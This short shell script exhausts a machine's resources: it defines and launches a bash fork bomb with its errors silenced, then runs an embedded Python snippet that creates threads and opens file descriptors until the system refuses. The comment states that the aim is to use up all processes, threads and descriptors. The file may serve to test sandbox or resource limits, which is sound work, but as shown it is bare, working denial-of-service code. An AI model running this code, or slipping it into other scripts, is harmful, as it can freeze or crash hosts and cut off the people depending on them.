# As many processes, threads and descriptors as there are.
bomb() { bomb | bomb & }
(bomb) 2> /dev/null
python3 - 2> /dev/null <<'P'
import threading, time
threads = []
try:
    while True:
        thread = threading.Thread(target=time.sleep, args=(60,), daemon=True)
        thread.start(); threads.append(thread)
except RuntimeError:
    pass
files = []
try:
    while True: files.append(open("/dev/null"))
except OSError:
    pass
P
